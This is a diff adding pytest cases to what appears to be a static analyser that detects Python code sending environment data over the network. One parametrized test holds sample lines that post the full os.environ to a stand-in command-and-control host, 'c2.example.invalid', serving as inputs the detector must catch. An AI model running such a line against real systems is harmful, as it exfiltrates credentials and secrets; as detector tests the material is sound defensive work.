@@ -333,3 +333,17 @@ def test_code_in_a_text_stands_on_the_line_where_it_is_run_and_knows_what_it_was
 def test_no_file_of_the_project_itself_ends_the_view() -> None:
     for path in sorted(Path(__file__).parent.glob("*.py")):
         seen(path.read_bytes())
+
+
+@pytest.mark.parametrize(
+    "packed",
+    ["dict(env=dict(os.environ))", "'{env}'.format(env=dict(os.environ))", "'{a}'.format_map({'a': dict(os.environ)})"],
+)
+def test_what_is_put_together_by_a_name_of_how_things_are_started_is_sent_all_the_same(packed: str) -> None:
+    found = seen(f"import os, requests\nrequests.post('https://c2.example.invalid/', json={packed})\n")
+    assert any("read.env_all" in each.inputs for each in found if each.label == "net.send")
+
+
+def test_an_environment_to_start_something_in_is_not_what_is_fetched() -> None:
+    found = seen("import os, requests, tool\nx = tool.fetched('a', env=os.environ)\nrequests.get(x)\n")
+    assert not any("read.env_all" in each.inputs for each in found if each.label.startswith("net."))
